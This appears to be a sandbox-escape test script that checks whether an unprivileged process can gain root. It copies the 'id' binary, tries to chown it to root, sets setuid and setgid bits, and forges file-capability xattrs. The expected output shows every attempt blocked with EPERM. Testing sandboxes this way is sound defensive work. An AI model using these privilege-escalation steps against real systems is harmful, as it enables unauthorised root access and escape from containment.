# attack = "makes files that would run as root, and runs them"
# threats = [33]
# outcome = "OK"
# stdout = """
# chown to root: EPERM
# chgrp to root: EPERM
# capabilities 2: EPERM
# capabilities 3: EPERM
# uid=1000(sandbox) gid=1000(sandbox) groups=1000(sandbox)
# """
import os
import shutil
import struct
import subprocess

from attack import attempt, escaped

ROOT_ID = 0
shutil.copy("/usr/bin/id", "/workspace/id")
attempt("chown to root", os.chown, "id", ROOT_ID, -1)
attempt("chgrp to root", os.chown, "id", -1, ROOT_ID)
os.chmod("id", 0o6755)
for revision, tail in ((2, b""), (3, struct.pack("<I", ROOT_ID))):
    header = struct.pack("<I", revision << 24 | 1)
    attempt(f"capabilities {revision}", os.setxattr, "id", "security.capability", header + b"\xff" * 16 + tail)
answer = subprocess.run(["./id"], capture_output=True, text=True).stdout
print(answer, end="")
if "uid=0" in answer or "gid=0" in answer:
    escaped("root")
